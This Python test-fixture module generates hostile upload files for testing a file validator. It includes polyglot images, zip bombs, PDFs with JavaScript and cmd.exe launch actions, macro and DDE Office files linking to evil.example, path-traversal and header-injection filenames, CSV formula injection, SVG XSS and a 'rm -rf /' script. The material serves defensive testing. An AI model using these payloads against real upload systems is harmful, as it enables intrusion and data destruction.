"""Files that somebody might send to do harm, made here: no binary is kept in the repository.

Each is a name, the bytes, and what must come of it: the words of the rule that refuses it, or
`KEPT` where only what it shows is kept.
"""

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

CANARY = b"<script>alert('ZQ7-canary')</script>"
KEPT = "kept"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = b'<?xml version="1.0"?><Types xmlns="x"><Default Extension="xml"/></Types>'


def image(kind="PNG", size=(40, 30), colour="teal", **how):
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, kind, **how)
    return out.getvalue()


PNG, JPEG, WEBP = image("PNG"), image("JPEG"), image("WEBP")
PDF = (
    b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    b"trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"
)


def pdf_with(thing):
    return PDF.replace(b"/Pages 2 0 R", b"/Pages 2 0 R " + thing, 1)


def zipped(parts, comment=b"", how=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        archive.comment = comment
        for name, content in parts:
            archive.writestr(name, content)
    return out.getvalue()


def office(main="word/document.xml", *extra, **how):
    return zipped(
        [("[Content_Types].xml", TYPES), (main, b"<w:document>Hello</w:document>"), *extra], **how
    )


def odf(*extra):
    mimetype = "application/vnd.oasis.opendocument.text"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", mimetype)
        for name, content in [("content.xml", b"<office:text/>"), *extra]:
            archive.writestr(name, content)
    return out.getvalue()


DOCX, XLSX, ODT = office(), office("xl/workbook.xml"), odf()


def png_chunk(kind, data):
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def png_of(width, height, data=b"", extra=b""):
    head = png_chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = png_chunk(b"IDAT", data or zlib.compress(b"\0" * 1000))
    return b"\x89PNG\r\n\x1a\n" + head + extra + body + png_chunk(b"IEND", b"")


def png_text():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", CANARY.decode())
    info.add_itxt("XML:com.adobe.xmp", CANARY.decode())
    return image("PNG", pnginfo=info)


def jpeg_exif():
    exif = Image.Exif()
    exif[0x010E] = CANARY.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 48.0, 22.7), 3: "W", 4: (2.0, 6.0, 9.1)})
    return image("JPEG", exif=exif)


def jpeg_segment(marker, data):
    return JPEG[:2] + bytes([0xFF, marker]) + struct.pack("!H", len(data) + 2) + data + JPEG[2:]


def animated(kind, frames=400):
    out = io.BytesIO()
    pictures = [Image.new("RGB", (64, 64), (n % 256, 0, 0)) for n in range(frames)]
    pictures[0].save(out, kind, save_all=True, append_images=pictures[1:])
    return out.getvalue()


def relationship(kind, target="https://evil.example/x.dotm"):
    return (
        f'<Relationships><Relationship Id="r1" Type="{RELS}/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()


# The same said in other ways: a prefix, a ">" in an attribute, letters by their numbers.
EXTERNAL_IMAGE = relationship("image")
PREFIXED = EXTERNAL_IMAGE.replace(b"<Relationship ", b"<r:Relationship ")
BESIDE = EXTERNAL_IMAGE.replace(b"Id=", b"Note='>' Id=")
SPELT = EXTERNAL_IMAGE.replace(b"External", b"&#69;xternal")
SPREAD = b"<p><t>D</t><fldChar/><instrText>D</instrText><i/><instrText>DE c</instrText></p>"
TYPED = b"<Types><Override ContentType='application/macro&#69;nabled.main'/></Types>"


def many_links(count):
    """An office file with a great many tags of one kind."""
    tags = b"<Relationships>" + b"<Relationship />" * count + b"</Relationships>"
    part = ("word/_rels/document.xml.rels", tags)
    return office("word/document.xml", part, how=zipfile.ZIP_STORED)


def locked():
    data = bytearray(DOCX)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            data[at + place] |= 1
    return bytes(data)


def nested(depth):
    inner = zipped([("a.txt", b"a")])
    for _ in range(depth):
        inner = zipped([("inner.zip", inner)])
    return inner


BOMB = zipped([("xl/worksheets/sheet1.xml", b"\0" * 60_000_000)])
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + CANARY + b"</svg>"
HTML = b"<!DOCTYPE html><html><body>" + CANARY + b"</body></html>"


def files():
    """Every hostile file: name, bytes, what comes of it."""
    return [*_images(), *_other_types(), *_pdfs(), *_offices(), *_texts(), *_names()]


def _images():
    return [
        ("comment.jpg", jpeg_segment(0xFE, CANARY), KEPT),
        ("app1.jpg", jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + CANARY), KEPT),
        ("app13.jpg", jpeg_segment(0xED, b"Photoshop 3.0\0" + CANARY), KEPT),
        ("icc.jpg", image("JPEG", icc_profile=CANARY * 20), KEPT),
        ("gps.jpg", jpeg_exif(), KEPT),
        ("with-zip.jpg", JPEG + zipped([("evil.html", HTML)]), KEPT),
        ("with-html.jpg", JPEG + HTML, KEPT),
        ("with-jar.png", PNG + zipped([("META-INF/MANIFEST.MF", CANARY)]), KEPT),
        ("with-html.png", PNG + HTML, KEPT),
        ("text.png", png_text(), KEPT),
        ("exif.webp", image("WEBP", exif=b"Exif\0\0" + CANARY), KEPT),
        ("xmp.webp", image("WEBP", xmp=CANARY), KEPT),
        ("animated.webp", animated("WEBP"), KEPT),
        ("animated.png", animated("PNG"), KEPT),
        ("flood.png", png_of(30_000, 30_000), "pixels"),
        ("wide.png", png_of(2**31 - 1, 1), "pixels"),
        ("tall.jpg", JPEG[:163] + b"\xff\xff\xff\xff" + JPEG[167:], ""),
        ("no-pixels.png", png_of(0, 0), "damaged"),
        (
            "big-chunk.png",
            png_of(10, 10, extra=png_chunk(b"zTXt", b"a\0\0" + zlib.compress(b"a" * 90_000_000))),
            "",
        ),
        ("long-chunk.png", PNG[:33] + b"\x7f\xff\xff\xfftEXtabc" + PNG[33:], "damaged"),
        ("pixels-short.png", png_of(4000, 4000), "damaged"),
        ("white.png", png_of(9_000, 4_400, zlib.compress(b"\0" * (9_000 * 3 + 1) * 4_400, 9)), ""),
        ("truncated.jpg", JPEG[: len(JPEG) // 2], "damaged"),
        ("truncated.png", PNG[:40], "damaged"),
        ("truncated.webp", WEBP[:30], ""),
        ("only-head.jpg", JPEG[:4], "damaged"),
    ]


def _other_types():
    return [
        ("empty.pdf", b"", "empty"),
        ("picture.svg", SVG, "not kept"),
        ("picture.png", SVG, "not kept"),
        ("page.html", HTML, "not kept"),
        ("page.jpg", HTML, "not kept"),
        ("page.txt", HTML, "web page"),
        ("drawing.txt", b"\xef\xbb\xbf  " + SVG, "web page"),
        ("gifar.gif", b"GIF89a" + zipped([("evil.class", CANARY)]), "GIF"),
        ("gif.png", animated("GIF", 30), "GIF"),
        ("run.exe", b"MZ" + b"\0" * 500, "program"),
        ("letter.pdf.exe", b"MZ" + PDF, "program"),
        ("program.pdf", b"\x7fELF" + b"\0" * 500, "program"),
        ("script.txt", b"#!/bin/sh\nrm -rf /", "script"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "older Office"),
        ("all.zip", zipped([("a.txt", b"a")]), "archive"),
        ("all.docx", zipped([("a.txt", b"a")]), "archive"),
        ("nested.docx", nested(9), "archive"),
        ("java.jar", zipped([("META-INF/MANIFEST.MF", b"a")]), "archive"),
        ("wrong.png", JPEG, "does not end"),
        ("wrong.pdf", DOCX, "does not end"),
        ("wrong.xlsx", DOCX, "does not end"),
        ("no-ending", PDF, "does not end"),
    ]


def _pdfs():
    return [
        ("script.pdf", pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "script"),
        ("hidden.pdf", pdf_with(b"/Names << /J#61vaScript 3 0 R >>"), "script"),
        ("launch.pdf", pdf_with(b"/AA << /S /Launch /F (cmd.exe) >>"), "script"),
        ("carrier.pdf", pdf_with(b"/EmbeddedFiles 3 0 R"), "script"),
        ("after-html.pdf", HTML + PDF, "not kept"),
        ("with-zip.pdf", PDF + zipped([("a", CANARY)]) + b"%%EOF", "archive"),
        ("truncated.pdf", PDF[:60], "incomplete"),
        ("only-head.pdf", b"%PDF-1.7", "incomplete"),
    ]


def _offices():
    rels = "word/_rels/settings.xml.rels"
    return [
        ("macro.docx", office("word/document.xml", ("word/vbaProject.bin", b"x")), "macros"),
        (
            "macro-type.docx",
            office("word/document.xml", ("a.xml", b"macroEnabled.main")),
            "macros",
        ),
        ("activex.docx", office("word/document.xml", ("word/activeX/a.bin", b"x")), "macros"),
        ("sheet4.xlsx", office("xl/workbook.xml", ("xl/macrosheets/a.xml", b"x")), "macros"),
        ("basic.odt", odf(("Basic/Standard/a.xml", b"<x/>")), "macros"),
        (
            "ole.docx",
            office("word/document.xml", ("word/embeddings/o.bin", b"\xd0\xcf\x11\xe0")),
            "inside",
        ),
        ("exe.docx", office("word/document.xml", ("word/media/a.png", b"MZ\x90")), "inside"),
        (
            "zip.docx",
            office("word/document.xml", ("word/media/a.png", zipped([("a", b"a")]))),
            "inside",
        ),
        (
            "deep.docx",
            office(
                "word/document.xml",
                (
                    "word/embeddings/a.xlsx",
                    office("xl/workbook.xml", ("xl/embeddings/b.xlsx", XLSX)),
                ),
            ),
            "inside",
        ),
        (
            "macro-inside.docx",
            office(
                "word/document.xml",
                ("word/embeddings/a.xlsx", office("xl/workbook.xml", ("xl/vbaProject.bin", b"x"))),
            ),
            "macros",
        ),
        (
            "template.docx",
            office("word/document.xml", (rels, relationship("attachedTemplate"))),
            "elsewhere",
        ),
        ("prefixed.docx", office("word/document.xml", (rels, PREFIXED)), "elsewhere"),
        ("beside.docx", office("word/document.xml", (rels, BESIDE)), "elsewhere"),
        ("spelt.docx", office("word/document.xml", (rels, SPELT)), "elsewhere"),
        ("spread.docx", office("word/document.xml", ("word/f.xml", SPREAD)), "elsewhere"),
        ("types.docx", office("word/document.xml", ("word/_rels/a.rels", TYPED)), "macros"),
        ("no-xml.docx", office("word/document.xml", (rels, b"<Relationship ")), "damaged"),
        ("image.docx", office("word/document.xml", (rels, relationship("image"))), "elsewhere"),
        (
            "linked.xlsx",
            office(
                "xl/workbook.xml",
                ("xl/externalLinks/_rels/a.xml.rels", relationship("externalLinkPath")),
            ),
            "elsewhere",
        ),
        (
            "dde.docx",
            office("word/document.xml", ("word/f.xml", b"<w:instrText>DDEAUTO c</w:instrText>")),
            "elsewhere",
        ),
        (
            "dde.xlsx",
            office("xl/workbook.xml", ("xl/a.xml", b"<ddeLink ddeService='cmd'/>")),
            "elsewhere",
        ),
        (
            "entities.docx",
            office("word/document.xml", ("a.xml", b"<!DOCTYPE x [<!ENTITY a 'b'>]>")),
            "not made by an office program",
        ),
        (
            "utf16.docx",
            office("word/document.xml", ("a.xml", "<!DOCTYPE x>".encode("utf-16"))),
            "not made by an office program",
        ),
        (
            "up.docx",
            office("word/document.xml", ("../../etc/passwd", b"x")),
            "not made by an office program",
        ),
        (
            "root.docx",
            office("word/document.xml", ("/etc/passwd", b"x")),
            "not made by an office program",
        ),
        ("comment.docx", office(comment=CANARY), "not made by an office program"),
        ("before.docx", b"PK\x03\x04junk" + DOCX, ""),
        ("locked.docx", locked(), "password"),
        ("truncated.docx", DOCX[:-30], "damaged"),
        (
            "many.xlsx",
            office("xl/workbook.xml", *((f"a{n}.bin", b"") for n in range(3_001))),
            "too large",
        ),
        ("bomb.xlsx", office("xl/workbook.xml", ("xl/a.xml", b"\0" * 60_000_000)), "too large"),
        (
            "several.xlsx",
            office("xl/workbook.xml", *((f"xl/{n}.bin", b"\0" * 990_000) for n in range(130))),
            "too large",
        ),
        ("bomb-inside.docx", office("word/document.xml", ("word/embeddings/a.xlsx", BOMB)), ""),
    ]


def _texts():
    return [
        ("binary.txt", b"abc\0\1\2", "not plain"),
        ("command.csv", b"name,=cmd|' /C calc'!A0\n", "command"),
        ("command-2.csv", b"+cmd|'/C x'!A0", "command"),
        ("command-3.csv", b"name\n\n \t@cmd|'/C x'!A0 | no!", "command"),
        ("command-4.csv", b'a|b "=cmd|x!"', "command"),
    ]


def _names():
    return [
        ("../../../etc/passwd.pdf", PDF, KEPT),
        ("..\\..\\windows\\evil.pdf", PDF, KEPT),
        ("\u202efdp.exe.pdf", PDF, KEPT),
        ("a" * 300 + ".pdf", PDF, KEPT),
        ("CON.pdf", PDF, KEPT),
        (".htaccess.pdf", PDF, KEPT),
        ('a"; filename="evil.html.pdf', PDF, KEPT),
        ("a\r\nSet-Cookie: x=1.pdf", PDF, KEPT),
        ("<b>bold</b>.pdf", PDF, KEPT),
        ("brief ünïcode – 日本.pdf", PDF, KEPT),
    ]
